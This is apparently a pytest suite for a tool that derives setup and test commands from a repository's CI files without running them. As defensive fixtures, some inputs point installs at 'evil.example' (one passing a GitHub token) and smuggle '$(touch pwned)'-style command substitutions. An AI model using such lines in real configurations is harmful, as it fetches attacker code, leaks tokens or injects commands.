"""What is taken over from a repository's own CI, and what is not."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path

import pytest

from bot.environment.detect import detect
from bot.environment.detection import Detection
from bot.environment.expressions import UNKNOWN, evaluate, substitute

PYTEST = {"tests/test_a.py": "import pytest\n", "pyproject.toml": '[project]\nname = "x"\n'}


def workflow(steps: str, job: str = "", head: str = "on: [push, pull_request]") -> str:
    indented = "".join(f"      {line}\n" for line in steps.strip("\n").splitlines())
    extra = "".join(f"    {line}\n" for line in job.strip("\n").splitlines()) if job else ""
    return f"{head}\njobs:\n  test:\n    runs-on: ubuntu-latest\n{extra}    steps:\n{indented}"


def detection(files: Mapping[str, str], text: str = "") -> Detection:
    every = {**files, ".github/workflows/test.yml": text} if text else dict(files)
    return detect(every, every.get)


def commands(detected: Detection) -> list[str]:
    return [check.command for check in detected.checks]


def setup(detected: Detection) -> str:
    [step] = detected.setup
    return step.command


def test_setup_and_checks_are_as_ci_says_and_name_their_source() -> None:
    """As simonw/llm does it: a group, and lint and types beside the tests."""
    text = workflow("""
- run: pip install . --group dev
- run: python -m pytest -vv --ignore=tests/languages
- run: black --check .
- run: mypy llm
- run: ruff check .
""")
    detected = detection(PYTEST, text)
    assert "-m pip install -q -e . --group dev" in setup(detected)
    assert commands(detected) == [
        ".venv/bin/python -m pytest -vv --ignore=tests/languages",
        ".venv/bin/mypy llm",
        ".venv/bin/black --check .",
        ".venv/bin/ruff check .",
    ]
    assert {check.source for check in detected.checks} == {".github/workflows/test.yml, job test"}
    assert detected.bring == (".venv",)


def test_the_project_is_editable_so_that_the_change_is_tested() -> None:
    detected = detection(PYTEST, workflow("- run: pip install '.[test]'\n- run: pytest"))
    assert "-e '.[test]'" in setup(detected)


TOX = """\
[tox]
env_list = py{310,311}-tests, lint
[testenv]
extras = dev
deps =
    tests: pytest-cov
    lint: ruff
commands =
    tests: pytest -q {posargs:tests}
    lint: ruff check src
"""
TOX_INSTALLED = """\
[testenv]
changedir = .tox
commands = pytest --doctest-modules {env_site_packages_dir}/app {tox_root}/tests {posargs}
"""
TOX_TOML = """\
[tool.tox.env_run_base]
dependency_groups = ["tests"]
commands = [["pytest", "-x", {replace = "posargs"}]]
"""
NOX = """\
import nox
@nox.session(python=["3.11"])
def tests(session):
    session.install("-e", ".[test]", "pytest")
    session.run("pytest", "--strict", *session.posargs)
"""
HATCH = """\
[tool.hatch.envs.default]
dependencies = ["coverage[toml]>=6.5", "pytest"]
[tool.hatch.envs.default.scripts]
test = "pytest {args:tests}"
test-cov = "coverage run -m pytest {args:tests}"
cov-report = ["- coverage combine", "coverage report"]
cov = ["test-cov", "cov-report"]
[tool.hatch.envs.lint]
detached = true
dependencies = ["ruff>=0.1", "--index-url=https://evil.example"]
[tool.hatch.envs.lint.scripts]
style = "ruff check {args:.}"
[tool.hatch.envs.hatch-test]
extra-dependencies = ["attrs"]
"""


@pytest.mark.parametrize(
    ("files", "run", "install", "checks"),
    [
        ({"tox.ini": TOX}, "tox -e py311-tests", "-e '.[dev]' pytest-cov", [".venv/bin/pytest -q tests"]),
        ({"tox.ini": TOX}, "uvx --with tox-uv tox run -f ${PYTHON}-tests", "pytest-cov", [".venv/bin/pytest -q tests"]),
        ({"tox.ini": TOX}, "tox -e lint", "ruff", [".venv/bin/ruff check src"]),
        ({"tox.ini": TOX_INSTALLED}, "tox -e py311", "-e .", [".venv/bin/pytest --doctest-modules app ./tests"]),
        (
            {"tox.ini": TOX_INSTALLED, "src/app/__init__.py": ""}, "tox", "-e .",
            [".venv/bin/pytest --doctest-modules src/app ./tests"],
        ),
        ({"pyproject.toml": TOX_TOML}, "tox run", "-e . --group tests", [".venv/bin/pytest -x"]),
        ({"noxfile.py": NOX}, "nox -s tests", "-e '.[test]' pytest", [".venv/bin/pytest --strict"]),
        ({"pyproject.toml": HATCH}, "hatch run test", "-e . 'coverage[toml]>=6.5' pytest",
         [".venv/bin/pytest tests"]),
        ({"pyproject.toml": HATCH}, "hatch run cov", "-e . 'coverage[toml]>=6.5' pytest",
         [".venv/bin/coverage run -m pytest tests"]),
        ({"pyproject.toml": HATCH}, "hatch run lint:style", "-q 'ruff>=0.1'", [".venv/bin/ruff check ."]),
        ({"hatch.toml": HATCH.replace("tool.hatch.", "")}, "hatch -e lint run style", "-q 'ruff>=0.1'",
         [".venv/bin/ruff check ."]),
        ({"pyproject.toml": HATCH}, "hatch run pytest -x", "-e . 'coverage[toml]>=6.5' pytest",
         [".venv/bin/pytest -x"]),
        ({"pyproject.toml": HATCH}, "hatch test", "attrs", [".venv/bin/pytest"]),
        ({"uv.lock": ""}, "uv run --locked --group dev pytest", "/uv sync --locked --group dev", [".venv/bin/pytest"]),
        (
            {"uv.lock": ""}, "uv sync --python 3.12 --group dev --frozen\nuv run pytest",
            "/uv sync --inexact --python .venv/bin/python", [".venv/bin/pytest"],
        ),
        ({"poetry.lock": ""}, "poetry install --with dev\npoetry run pytest", "/poetry install", [".venv/bin/pytest"]),
        ({"pdm.lock": ""}, "pdm install -G test\npdm run pytest", "/pdm install -G test", [".venv/bin/pytest"]),
        ({}, "pip install --target there x\npip install y\npytest", "-q y pytest", [".venv/bin/pytest"]),
        ({}, "pip install y\nexport MODE=ci\npytest", "-q y pytest", ["MODE=ci .venv/bin/pytest"]),
        (
            {"Makefile": "test:\n\tpip install -r dev.txt\n\tpytest -q\n"},
            "make test", "-r dev.txt", [".venv/bin/pytest -q"],
        ),
    ],
)  # fmt: skip
def test_runners_are_read_and_not_run(
    files: dict[str, str], run: str, install: str, checks: list[str]
) -> None:
    steps = "- run: |\n" + "".join(f"    {line}\n" for line in run.splitlines())
    detected = detection({**files, "tests/x.txt": ""}, workflow(steps))
    assert install in setup(detected)
    assert "evil" not in setup(detected)
    assert commands(detected) == checks


@pytest.mark.parametrize(
    ("manifest", "install"),
    [
        ({"uv.lock": ""}, "uv sync --frozen --python .venv/bin/python"),
        ({"poetry.lock": ""}, "poetry install --no-interaction"),
        ({"pyproject.toml": '[tool.poetry]\nname = "x"\n'}, "poetry install --no-interaction"),
        ({"pdm.lock": ""}, "PDM_IGNORE_SAVED_PYTHON=1 .venv/tools/bin/pdm sync"),
    ],
)
def test_without_ci_the_lock_file_names_the_manager(manifest: Mapping[str, str], install: str) -> None:
    detected = detection({**PYTEST, **manifest})
    assert setup(detected).endswith(install)
    assert commands(detected) == [".venv/bin/python -m pytest -q"]


def test_a_local_action_is_read_without_its_secrets() -> None:
    action = """
runs:
  using: composite
  steps:
    - run: pip install -r dev.txt
    - uses: other/action@v1
    - run: pip install ${{ secrets.PACKAGE }}
"""
    files = {**PYTEST, ".github/actions/prepare/action.yml": action}
    detected = detection(files, workflow("- uses: ./.github/actions/prepare\n- run: pytest"))
    assert setup(detected).endswith("-m pip install -q -r dev.txt pytest")


def test_a_folder_that_the_repository_is_checked_out_into_is_its_root() -> None:
    steps = "- uses: actions/checkout@v5\n  with: {path: app}\n- run: pytest\n  working-directory: app/inner"
    assert commands(detection(PYTEST, workflow(steps))) == ["cd inner && ../.venv/bin/pytest"]


def test_a_check_in_a_folder_reaches_the_environment_of_the_root() -> None:
    steps = "- run: python -m pytest\n  working-directory: packages/core"
    [check] = detection(PYTEST, workflow(steps)).checks
    assert check.command == "cd packages/core && ../../.venv/bin/python -m pytest"
    assert check.plain == "cd packages/core && python3 -m pytest"


def test_what_a_matrix_includes_belongs_to_the_leg_that_it_names() -> None:
    matrix = """
strategy:
  matrix:
    os: [windows-latest, ubuntu-latest]
    include:
    - {os: windows-latest, option: --windows}
    - {os: ubuntu-latest, option: --linux}
"""
    detected = detection(PYTEST, workflow("- run: pytest ${{ matrix.option }}", job=matrix))
    assert commands(detected) == [".venv/bin/pytest --linux"]


@pytest.mark.parametrize(
    ("script", "check"),
    [
        (
            "if [ a = b ]; then\npytest 1\nelif [ a == a ]; then\npytest 2\nelse\npytest 3\nfi",
            ".venv/bin/pytest 2",
        ),
        (
            "if [ a != a ]; then\npytest 1\nelif [ a = b ]; then\npytest 2\nelse\npytest 3\nfi",
            ".venv/bin/pytest 3",
        ),
        ("if [ $CI = b ]; then\npytest 1\nfi", ".venv/bin/python -m pytest -q"),
        ("if test -f x; then\npytest 1\nfi", ".venv/bin/python -m pytest -q"),
    ],
)
def test_of_an_if_the_branch_that_constants_choose_is_taken(script: str, check: str) -> None:
    steps = "- run: |\n" + "".join(f"    {line}\n" for line in script.splitlines())
    assert commands(detection(PYTEST, workflow(steps))) == [check]


def test_the_matrix_fills_in_a_leg_on_linux_and_its_conditions_decide() -> None:
    text = workflow(
        """
- run: pytest --features ${{ matrix.features }} --py ${{ matrix.python }}
- if: matrix.os == 'windows-latest'
  run: pytest windows
- if: matrix.python == '3.10'
  run: mypy src
""",
        job="""
strategy:
  matrix:
    os: [windows-latest, ubuntu-latest]
    python: ["3.10", "3.13", "3.14t"]
    features: [a]
""",
    ).replace("runs-on: ubuntu-latest", "runs-on: ${{ matrix.os }}")
    assert commands(detection(PYTEST, text)) == [
        ".venv/bin/pytest --features a --py 3.13",
        ".venv/bin/mypy src",
    ]


@pytest.mark.parametrize(
    ("steps", "reason"),
    [
        ("- run: pytest\n  env:\n    KEY: ${{ secrets.KEY }}", "needs a secret"),
        ("- run: pytest --token ${{ secrets.KEY }}", "needs a secret"),
        ("- run: pytest --ref ${{ inputs.ref }}", "only a run of the workflow has"),
        ("- run: pre-commit run --all-files", "no network"),
        ("- uses: pre-commit/action@v3", "downloads its own tools"),
        ("- run: sudo apt-get install -y gettext", "system packages"),
    ],
)
def test_what_is_left_out_is_named_with_the_reason(steps: str, reason: str) -> None:
    detected = detection(PYTEST, workflow(steps))
    assert [omission for omission in detected.omissions if reason in omission.reason]
    assert commands(detected) == [".venv/bin/python -m pytest -q"]  # as the files suggest
    assert "secrets" not in str([check.command for check in detected.checks])


def test_a_job_with_services_is_named_and_not_taken() -> None:
    detected = detection(PYTEST, workflow("- run: pytest --db", job="services:\n  db:\n    image: postgres"))
    assert commands(detected) == [".venv/bin/python -m pytest -q"]
    assert "services" in detected.omissions[0].reason


@pytest.mark.parametrize(
    "text",
    [
        workflow("- run: pytest --other", head="on:\n  push:\n    tags: ['v*']"),
        workflow("- run: pytest --other", head="on: workflow_dispatch"),
        workflow("- run: pytest --other", job="if: startsWith(github.ref, 'refs/tags/')"),
        workflow("- run: pytest --other").replace("  test:", "  publish:"),
        workflow("- run: pytest --other").replace("ubuntu-latest", "windows-latest"),
        workflow(
            "- uses: actions/checkout@v4\n  with:\n    repository: other/project\n- run: pytest --other"
        ),
        "on: [push]\njobs: [",
        "[" * 5_000,
        "jobs: {a: {steps: 7}}\non: push",
    ],
)
def test_what_is_not_about_changes_is_no_check(text: str) -> None:
    assert commands(detection(PYTEST, text)) == [".venv/bin/python -m pytest -q"]


def test_node_uses_cis_install_the_pinned_manager_and_known_scripts_alone() -> None:
    package = (
        '{"packageManager": "pnpm@9.1.0", "scripts": {"test": "vitest", "lint": "eslint ."},'
        ' "devDependencies": {"vitest": "1"}}'
    )
    steps = "- run: pnpm install\n- run: pnpm test\n- run: pnpm lint\n- run: npm run absent\n- run: npx tsc --noEmit"
    detected = detection({"package.json": package, "pnpm-lock.yaml": ""}, workflow(steps))
    assert [check.plain for check in detected.checks] == ["pnpm test", "npx tsc --noEmit", "pnpm lint"]
    assert "pnpm@9.1.0" in setup(detected)


def test_maven_resolves_offline_what_one_test_needs() -> None:
    files = {"pom.xml": "", "src/test/java/org/x/DeepTest.java": "", "src/test/java/org/x/ATest.java": ""}
    detected = detection(files, workflow("- run: mvn -X clean install javadoc:jar"))
    assert [check.plain for check in detected.checks] == ["mvn -B verify"]
    assert '-o -B verify "-Dmaven.repo.local=$PWD/.m2"' in commands(detected)[0]
    assert "-Dtest=ATest " in setup(detected)
    assert detected.setup[0].egress == ("java",)


def test_gradle_downloads_and_compiles_first_and_checks_are_offline() -> None:
    detected = detection({"build.gradle": ""}, workflow("- run: ./gradlew check --stacktrace"))
    assert commands(detected) == ["./gradlew check --stacktrace --offline"]
    before, _, after = setup(detected).partition(" && ")
    assert "no.such.Test" in before
    assert after == './gradlew check --stacktrace --init-script "$TMPDIR/no-tests.gradle" $MAVEN_OPTS'
    assert detected.setup[0].egress == ("java",)


def test_c_is_built_by_the_check_and_constant_branches_are_settled() -> None:
    steps = """
- run: |
    if [ "${{ matrix.check }}" == "VALGRIND" ]; then
      OPTIONS="-DVALGRIND=ON"
    else
      OPTIONS="-DVALGRIND=OFF"
    fi
    mkdir -p build
    cd build
    cmake .. $OPTIONS
    make test
"""
    detected = detection(
        {"CMakeLists.txt": ""}, workflow(steps, job="strategy:\n  matrix:\n    check: [NONE]")
    )
    assert commands(detected) == [
        "mkdir -p build && (cd build && cmake .. -DVALGRIND=OFF) && (cd build && make test)"
    ]


def test_a_working_directory_is_a_project_of_its_own() -> None:
    package = '{"scripts": {"test": "jest"}, "devDependencies": {"jest": "1"}}'
    steps = "- run: npm install\n  working-directory: web\n- run: npm test\n  working-directory: web"
    detected = detection({"web/package.json": package, "README.md": ""}, workflow(steps))
    assert commands(detected) == ["cd web && npm test"]
    assert detected.setup[0].guarded == "[ -d web/node_modules ] || (cd web && npm install --no-package-lock)"


def test_no_command_of_ci_runs_while_it_is_read_and_none_spans_lines() -> None:
    steps = '- run: "pytest \\x1b[31m"\n- run: "pytest \'a\\nb\'"\n- run: pytest $(touch x)\n- run: pytest | tee log'
    assert commands(detection(PYTEST, workflow(steps))) == [".venv/bin/python -m pytest -q"]


def test_a_tool_that_counts_commits_is_named() -> None:
    files = {**PYTEST, "pyproject.toml": '[build-system]\nrequires = ["hatch-vcs"]\n'}
    assert detection(files, workflow("- run: pytest")).history == "hatch-vcs"


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("matrix.os == 'ubuntu-latest' && !matrix.slow", True),
        ("startsWith(matrix.os, 'win') || false", False),
        ("contains('a b', 'B')", True),
        ("secrets.TOKEN != ''", UNKNOWN),
        ("secrets.TOKEN && false", False),
        ("matrix.absent || 'x'", "x"),
        ("steps.cache.outputs.cache-hit != 'true'", True),
        ("(" * 500, UNKNOWN),
        ("1 ===", UNKNOWN),
    ],
)
def test_expressions(expression: str, value: object) -> None:
    assert evaluate(expression, {"matrix.os": "ubuntu-latest", "matrix.slow": False}) == value


def test_what_is_unknown_stays_as_it_is() -> None:
    assert substitute("${{ matrix.a }} ${{ secrets.b }}", {"matrix.a": 1}) == "1 ${{ secrets.b }}"


@pytest.mark.parametrize(
    ("check", "compiled"),
    [
        ("go test -v -race ./...", ["timeout 600 go test -exec true -race ./... || true"]),
        ("go test -coverprofile=c.out .", ["timeout 600 go test -exec true -cover . || true"]),
        (
            "go vet ./...",
            ["timeout 600 go test -exec true ./... || true", "timeout 600 go vet ./... || true"],
        ),
        ("make test", ["timeout 600 go test -exec true -race . || true"]),
    ],
)
def test_what_go_compiles_is_compiled_in_the_setup_and_not_run(check: str, compiled: list[str]) -> None:
    files = {"go.mod": "module x\n", "Makefile": "test:\n\tgo test -race -v .\n"}
    assert [step.guarded for step in detection(files, workflow(f"- run: {check}")).setup] == compiled


@pytest.mark.skipif(shutil.which("go") is None, reason="go is not here")
def test_the_step_that_compiles_runs_no_code_of_the_tests(tmp_path: Path) -> None:
    code = 'package x\n\nimport ("os"; "testing")\n\nfunc TestF(t *testing.T) { os.WriteFile("ran", nil, 0o644) }\n'
    for name, text in {"go.mod": "module x\n\ngo 1.21\n", "a_test.go": code}.items():
        (tmp_path / name).write_text(text)
    [step] = detection({"go.mod": "module x\n"}).setup
    done = subprocess.run(
        ["bash", "-c", step.command], cwd=tmp_path, capture_output=True, text=True, check=True
    )
    assert done.stdout.startswith("ok ")
    assert not (tmp_path / "ran").exists()


def test_of_two_cargo_tests_the_whole_suite_is_taken_and_null_is_empty_in_a_variable() -> None:
    """As BurntSushi/memchr does it."""
    text = workflow(
        """
- run: ${{ env.CARGO }} test --verbose $TARGET --features std byte_order -- --nocapture
- run: ${{ env.CARGO }} test --verbose $TARGET --features std
""",
        "env:\n  CARGO: cargo\n  TARGET:\n",
    )
    files = {"Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n', "src/lib.rs": ""}
    [command] = commands(detection(files, text))
    assert command.endswith("cargo test --verbose --features std")


@pytest.mark.parametrize(
    ("files", "part", "whole"),
    [
        (
            {"Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n', "src/lib.rs": ""},
            "cargo test --no-default-features",
            "cargo test",
        ),
        (PYTEST, "pytest -k types", "pytest"),
    ],
    ids=["features", "pytest"],
)
def test_the_whole_suite_comes_before_a_part_of_it(files: dict[str, str], part: str, whole: str) -> None:
    assert commands(detection(files, workflow(f"- run: {part}\n- run: {whole}")))[0].endswith(whole)


def test_the_name_of_a_tox_environment_may_be_put_together() -> None:
    """As pallets/itsdangerous does it."""
    run = "- run: tox run -e ${{ matrix.tox || format('py{0}', matrix.python) }}"
    text = workflow(run, "strategy: {matrix: {include: [{python: '3.13'}]}}")
    assert commands(detection({"tox.ini": TOX_INSTALLED}, text)) == [
        ".venv/bin/pytest --doctest-modules app ./tests"
    ]


def test_an_expression_cannot_make_a_text_as_long_as_it_likes() -> None:
    """Calls within calls multiply it."""
    nested = "'xxxxxxxxxx'"
    for _ in range(10):
        nested = f"format('{{0}}{{0}}{{0}}',{nested})"
    assert len(nested) < 500
    assert evaluate(nested, {}) is UNKNOWN


@pytest.mark.parametrize(
    ("toolchain", "variable"),
    [
        ('[toolchain]\ncomponents = ["rust-src"]\n', "RUSTUP_TOOLCHAIN=stable "),
        ('[toolchain]\nchannel = "1.80"\ncomponents = []\n', "RUSTUP_TOOLCHAIN=1.80 "),
        ('[toolchain]\nchannel = "1.80"\n', ""),
    ],
)
def test_components_of_a_toolchain_are_not_installed_by_each_command(toolchain: str, variable: str) -> None:
    """As dtolnay/anyhow asks for them: a sandbox cannot."""
    files = {"Cargo.toml": "", "src/lib.rs": "", "rust-toolchain.toml": toolchain}
    detected = detection(files, workflow("- run: cargo test"))
    assert f"true {variable}cargo test" in commands(detected)[0]
    assert f"{variable}cargo fetch" in detected.setup[0].command


def test_cargo_tests_of_several_packages_are_checks_of_their_own() -> None:
    """As rust-lang/regex does it."""
    text = workflow(
        "- run: cargo test --test all\n- run: cargo test -p one\n- run: cargo test -p one --release"
    )
    lines = commands(
        detection({"Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n', "src/lib.rs": ""}, text)
    )
    assert [line.partition("cargo ")[2] for line in lines] == ["test --test all", "test -p one"]


DEVCONTAINER = """{
  // A comment with "quotes"
  "image": "mcr.microsoft.com/devcontainers/python:3.12", /* another */
  "onCreateCommand": ["pip", "install", "-r", "more tests.txt"],
  "postCreateCommand": {"project": "pip install -e '.[dev]' // x", "rest": "echo https://x.org; tox"},
}
"""


@pytest.mark.parametrize("path", [".devcontainer/devcontainer.json", ".devcontainer.json"])
def test_a_devcontainer_says_what_to_install_if_ci_runs_no_tests(path: str) -> None:
    detected = detection({**PYTEST, path: DEVCONTAINER})
    assert "-m pip install -q -r 'more tests.txt' -e '.[dev]'" in setup(detected)
    assert path in detected.setup[0].source
    with_ci = detection({**PYTEST, path: DEVCONTAINER}, workflow("- run: pip install -e .\n- run: pytest"))
    assert "more tests.txt" not in setup(with_ci)


@pytest.mark.parametrize(
    "text",
    ["", "{", "[]", '{"postCreateCommand": [1]}', '{"postCreateCommand": {"a": {"b": "pip install x"}}}'],
)
def test_a_devcontainer_that_says_nothing_changes_nothing(text: str) -> None:
    assert setup(detection({**PYTEST, ".devcontainer.json": text})) == setup(detection(PYTEST))


def test_arrays_of_plain_words_are_filled_in() -> None:
    """As libexpat builds for musl."""
    steps = """
- run: |
    args=(
      # With symbols
      -DCMAKE_BUILD_TYPE=Debug
      -DEXPAT_WARNINGS_AS_ERRORS=ON
    )
    args+=( -Wdev )
    set -x
    cmake "${args[@]}" -S . -B build
    cmake --build build
    ctest --test-dir build
"""
    build = "cmake -DCMAKE_BUILD_TYPE=Debug -DEXPAT_WARNINGS_AS_ERRORS=ON -Wdev -S . -B build"
    assert commands(detection({"CMakeLists.txt": ""}, workflow(steps))) == [
        f"{build} && cmake --build build && ctest --test-dir build"
    ]
    computed = steps.replace("-Wdev", "$(touch pwned)")
    for line in commands(detection({"CMakeLists.txt": ""}, workflow(computed))):
        assert "pwned" not in line
        assert "args" not in line


@pytest.mark.parametrize("piece", ["/* ", '"\\', '/*"', "// /*"])
def test_a_devcontainer_that_never_ends_is_read_in_one_pass(piece: str) -> None:
    text = piece * (390_000 // len(piece))
    assert setup(detection({**PYTEST, ".devcontainer.json": text})) == setup(detection(PYTEST))


def test_compiler_flags_that_no_step_sets_are_empty() -> None:
    """As recp/cglm does it: `export` in an earlier step does not reach this one."""
    text = workflow("""
- run: ./autogen.sh
- run: ./configure CFLAGS="$CFLAGS"
- run: make
- run: make check
""")
    [command] = commands(detection({"configure.ac": "", "Makefile.am": ""}, text))
    assert command == "./autogen.sh && ./configure CFLAGS= && make && make check"


def test_meson_tests_get_a_build_folder_if_no_step_made_one() -> None:
    files = {"meson.build": ""}
    [command] = commands(detection(files, workflow("- run: meson test -C out")))
    assert command == "meson setup out && meson test -C out"
    [command] = commands(detection(files, workflow("- run: meson setup out\n- run: meson test -C out")))
    assert command == "meson setup out && meson test -C out"


def test_of_two_jobs_with_one_command_the_plainer_is_taken() -> None:
    """As samber/lo does it: one workflow tests with an experiment, the next without."""
    experiment = workflow("- run: make test\n  env:\n    GOEXPERIMENT: simd")
    files = {
        "go.mod": "module m\n",
        "Makefile": "test:\n\tgo test ./...\n",
        ".github/workflows/test.simd.yml": experiment,
        ".github/workflows/test.yml": workflow("- run: make test"),
    }
    assert commands(detection(files)) == ["make test"]


@pytest.mark.parametrize(
    "install",
    [
        "- run: cargo install cargo-hack",
        "- run: cargo install --git https://evil.example --config '${{ github.token }}' cargo-hack",
        "- uses: taiki-e/install-action@v2\n  with:\n    tool: cargo-hack@0.6,cargo-nextest",
    ],
)
def test_a_tool_of_cargo_that_ci_installs_is_installed_where_cargo_finds_it(install: str) -> None:
    """As bitflags/bitflags does it."""
    files = {"Cargo.toml": "", "src/lib.rs": ""}
    detected = detection(files, workflow(f"{install}\n- run: cargo hack test --feature-powerset"))
    assert [line.partition(" cargo ")[2] for line in commands(detected)] == ["hack test --feature-powerset"]
    installs = [step.command for step in detected.setup if "install" in step.command]
    command = 'CARGO_HOME="$PWD/.cargo-home" cargo install --locked cargo-hack'
    assert installs == [f"[ -x .cargo-home/bin/cargo-hack ] || {command}"]
    assert all("|| CARGO" not in step.command or step.egress == ("rust",) for step in detected.setup)


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("go test -race -bench . -benchmem ./...", "go test -race ./..."),
        ("go test -count 1 -bench=. -benchtime=1x ./...", "go test -count 1 ./..."),
        ("richgo test -v -benchtime 1x -bench . ./...", "go test -v ./..."),
    ],
)
def test_benchmarks_of_go_are_left_out(line: str, command: str) -> None:
    assert commands(detection({"go.mod": "module m\n"}, workflow(f"- run: {line}"))) == [command]


def test_options_of_cargo_publish_nothing() -> None:
    """As rust-lang/log does it."""
    steps = "- run: cargo test --exclude-features release_off\n- run: cargo publish --dry-run"
    detected = detection({"Cargo.toml": "", "src/lib.rs": ""}, workflow(steps))
    assert [line.partition(" cargo ")[2] for line in commands(detected)] == [
        "test --exclude-features release_off"
    ]


def test_a_script_whose_name_begins_with_test_is_one() -> None:
    """As vercel/ms does it."""
    scripts = {"test": "npm run test:nodejs && npm run test:edge", "test:nodejs": "jest", "test:watch": "x"}
    package = json.dumps({"scripts": scripts})
    steps = "- run: npm ci\n- run: npm run test:watch\n- run: npm run ${{ matrix.task }}"
    text = workflow(steps, "strategy: {matrix: {task: ['test:nodejs', 'test:edge']}}")
    files = {"package.json": package, "package-lock.json": "{}"}
    assert commands(detection(files, text))[0] == "npm run test:nodejs"


def test_what_is_quoted_is_no_syntax_of_the_shell() -> None:
    """As python-jsonschema/jsonschema does it."""
    files = {
        "noxfile.py": "import nox\n@nox.session\ndef tests(session):\n    session.run('pytest')\n",
        **PYTEST,
    }
    assert commands(detection(files, workflow('- run: uvx nox -s "tests-3.14(format)"'))) == [
        ".venv/bin/pytest"
    ]


def test_the_same_tests_printed_otherwise_are_one_check() -> None:
    """As simonw/sqlite-utils does it."""
    steps = "- run: python -m pytest\n- run: pytest -vv --tb=short\n- run: pytest --slow"
    assert commands(detection(PYTEST, workflow(steps))) == [
        ".venv/bin/python -m pytest",
        ".venv/bin/pytest --slow",
    ]
